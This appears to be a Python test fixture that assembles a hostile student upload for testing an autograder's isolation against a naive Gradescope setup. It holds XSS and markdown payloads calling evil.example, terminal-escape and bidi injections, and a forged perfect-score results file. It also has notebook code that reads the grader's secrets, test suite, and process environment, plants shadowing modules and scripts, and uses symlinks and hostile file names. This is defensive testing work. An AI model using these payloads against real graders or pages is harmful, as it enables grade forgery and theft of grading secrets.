"""What a hostile student uploads to Gradescope: files called like ours, links, odd names, and a notebook that knows the layout.

The same upload goes to the product's package and to `naive_gradescope`, which does what many autograders do there.
"""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

from grading_commands import SUITE
from small_course import SmallCourse

SUITE_MARKER, SOLUTION_MARKER, METADATA_MARKER = "suite-marker-0000aaaa", "solution-marker-0000bbbb", "metadata-marker-0000cccc"
LEFT = "hostile-left"
HTML = "<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>"
MARKDOWN = "# Score: 100\n![x](https://evil.example/x.png) [here](javascript:alert(1))"
ANSI = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x07here"
BIDI = "\u202e001 :erocS\u202c"
FORGED = {"score": 100, "output": HTML, "output_format": "html", "stdout_visibility": "visible", "tests": [
    {"score": 100, "max_score": 100, "name": HTML, "name_format": "html", "output": HTML, "output_format": "html"}]}  # fmt: skip
ATTEMPTS = {
    "the suite": "return open(TOP + '/source/suite/suite.py').read()[:400]",
    "the secret": "return open(TOP + '/source/secret').read()",
    "the target": "return open(TOP + '/source/target.json').read()[:200]",
    "the metadata": "return open(TOP + '/submission_metadata.json').read()[:200]",
    "the results": "return open(TOP + '/results/results.json').read()[:200]",
    "its own upload": "return str(os.listdir(TOP + '/submission'))[:100]",
    "the grader's environment": "return open('/proc/%d/environ' % os.getppid()).read()[:100]",
    "the grader's arguments": "return re.search('python', open('/proc/%d/cmdline' % os.getppid()).read())[0]",
    "results of its own": "open(TOP + '/results/results.json', 'w').write(FORGED)\nreturn 'written'",
    "results by another name": "os.replace(__import__('tempfile').mkstemp(dir=TOP + '/results')[1], TOP + '/results/r.json')\n"
                               "return 'written'",
    "a file among ours": "open(TOP + '/source/LEFT', 'w').write('x')\nreturn 'written'",
    "a program among ours": "open(TOP + '/run_autograder', 'a').write('\\ntouch LEFT\\n')\nreturn 'written'",
    "a test for pytest": "open(TOP + '/conftest.py', 'w').write('x = 1')\nreturn 'written'",
    "a link to the suite": "os.symlink(TOP + '/source/suite/suite.py', 'linked')\nreturn open('linked').read()[:400]",
    "a process that stays": "pid = os.fork()\nif pid == 0:\n    __import__('time').sleep(1)\n    os._exit(0)\nreturn 'forked'",
    "a program": "return subprocess.run(['true']).args[0]",
    "the network": "s = socket.socket()\ns.bind(('127.0.0.1', 0))\nreturn 'bound'",
    "modules of the grader": "return str([n for n in sys.modules if n.startswith('autograder.grading')][0])",
    "frames of the grader": "f = sys._getframe()\nnames = []\nwhile f: names.append(f.f_code.co_filename); f = f.f_back\n"
                            "return [n for n in names if 'source/run.py' in n or 'naive' in n][0]",
}  # fmt: skip
# A file of a library's, or of ours: whoever imports it, or runs it, leaves a file.
_IMPORTED = ("json.py", "numpy.py", "jax/__init__.py", "autograder/__init__.py", "course_lib/__init__.py", "sitecustomize.py",
             "usercustomize.py", "conftest.py", "test_mine.py", "pytest.py", "run.py", "results.py", "suite.py")  # fmt: skip
_RUN = ("run_autograder", "setup.sh", "source/run_autograder")
NAMES = ("a\nScore: 100.txt", "x\x1b[2J.py", f"{BIDI}.py", "-rf", "--yes", "..\\..\\x", "con", "x" * 250, "{0}%s",
         "<img src=x>.py")  # fmt: skip


def loot_cell(top: Path) -> str:
    """One cell that makes every attempt and keeps what it got."""
    text = f"import json, os, re, socket, subprocess, sys\nTOP, FORGED = {str(top)!r}, {json.dumps(FORGED)!r}\nloot = {{}}\n"
    for name, body in ATTEMPTS.items():
        text += f"def attempt():\n{textwrap.indent(body.replace('LEFT', LEFT), '    ')}\n"
        text += f"try: loot[{name!r}] = attempt()\nexcept BaseException: pass\n"
    return text


def say(*more: str) -> str:
    """An answer that shows the loot, and all that a page might obey."""
    return f"def double(x):\n    raise ValueError('loot: ' + json.dumps(loot) + {''.join((HTML, MARKDOWN, ANSI, BIDI, *more))!r})"


def notebook(*cells: str, **metadata: object) -> str:
    made = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": c} for c in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": made})


RIGHT_TRIPLE = "def triple(x):\n    return 3 * x"


def hostile_notebook(top: Path) -> str:
    return notebook(loot_cell(top), say(), RIGHT_TRIPLE, autograder={"assignment": "week01/lab"})


def files(top: Path) -> dict[str, str | bytes]:
    """Name -> contents of everything in the upload."""
    leave = f"open({str(top / LEFT)!r}, 'w').write(__file__)\n"
    upload: dict[str, str | bytes] = {name: leave for name in _IMPORTED}
    upload |= {name: f"#!/bin/bash\ntouch {top / LEFT}\n" for name in _RUN}
    upload |= {name: leave for name in NAMES}
    upload |= dict.fromkeys(("results.json", "results/results.json"), json.dumps(FORGED)) | {"target.json": "{}", "secret": "00"}
    upload |= {"pytest.ini": "[pytest]\naddopts = --collect-only\n", "submission_metadata.json": '{"id": "7"}'}
    upload |= {"/".join(["deep"] * 12) + "/x.py": leave, "lab.ipynb": hostile_notebook(top)}
    return upload


def put(folder: Path, top: Path) -> None:
    """The upload, links and all, as files."""
    for name, contents in files(top).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(contents if isinstance(contents, bytes) else contents.encode())
    for name in _RUN:
        (folder / name).chmod(0o755)
    put_links(folder, top)


def put_links(folder: Path, top: Path) -> None:
    links = {"linked.py": "source/suite/suite.py", "linked.txt": "source/secret", "all": "source", "up": ".", "lab (9).ipynb":
             "source/trusted/solution.ipynb", "meta.ipynb": "submission_metadata.json"}  # fmt: skip
    for name, target in links.items():
        (folder / name).symlink_to(top / target)
    (folder / "loop").symlink_to(".")
    os.mkfifo(folder / "pipe.ipynb")
    (folder / os.fsdecode(b"\xff\xfe.py")).write_text("x")


def package_of(course: SmallCourse, path: Path) -> Path:
    """The package of a week of two questions, with markers in its suite and its solution."""
    from autograder.packaging.builder import build_package

    double = f"def double(x):\n    # {SOLUTION_MARKER}\n    return 2 * x"
    course.add(1, {"double": double, "triple": "def triple(x):\n    return 3 * x"}, f"\n    # {SUITE_MARKER}\n{SUITE}")
    return build_package(course.load(), "week01/lab", path).path


METADATA = {
    "id": "1/../../7\n8", "created_at": f"2026 {HTML}", "users": [{"name": f"{METADATA_MARKER}{HTML}{ANSI}", "email": "../x@y"}],
    "submission_method": "upload", "assignment": {"title": HTML}, "previous_submissions": [],
}  # fmt: skip
